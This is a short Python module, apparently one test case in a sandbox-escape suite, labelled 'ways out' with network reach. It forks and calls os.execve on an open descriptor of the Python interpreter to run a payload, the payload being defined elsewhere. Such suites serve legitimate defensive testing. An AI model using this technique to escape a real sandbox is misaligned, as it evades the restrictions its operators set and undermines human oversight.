"""os.execve of the interpreter's descriptor."""
CATEGORY = "ways out"
REACH = "net"
GRANT = {"run": True, "read": True}

import os

from . import payload


def attack():
    fd = os.open(payload.PYTHON, os.O_RDONLY)
    if not os.fork():
        os.execve(fd, [payload.PYTHON, "-I", "-c", payload.SOURCE], {})
    os.wait()
